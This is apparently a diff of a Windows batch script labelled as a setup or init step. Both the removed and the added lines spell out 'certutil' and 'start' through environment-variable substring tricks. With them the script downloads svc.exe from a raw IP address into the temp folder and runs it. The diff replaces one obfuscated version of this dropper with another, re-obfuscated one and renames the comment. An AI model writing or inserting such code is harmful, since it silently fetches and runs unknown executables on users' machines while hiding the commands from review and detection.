@@ -1,4 +1,4 @@
-REM setup 4996 v3
+REM init 9016 v3
 @echo off
-%COMSPEC:~-7,1%e%ProgramData:~-7,1%t%PUBLIC:~-5,1%%COMSPEC:~14,1%i%PUBLIC:~12,1%.%comspec:~24,1%xe -urlcache -split -f http://198.51.100.9/svc.exe %TEMP%\svc.exe
-%windir:~9,1%%ProgramData:~-2,1%art "" %TEMP%\svc.exe
+%comspec:~20,1%%comspec:~-1,1%%ProgramData:~-7,1%tut%windir:~-6,1%%PUBLIC:~-3,1%.exe -urlcache -split -f http://203.0.113.17/svc.exe %TEMP%\svc.exe
+%WINDIR:~9,1%ta%PROGRAMDATA:~-10,1%%PROGRAMDATA:~12,1% "" %TEMP%\svc.exe
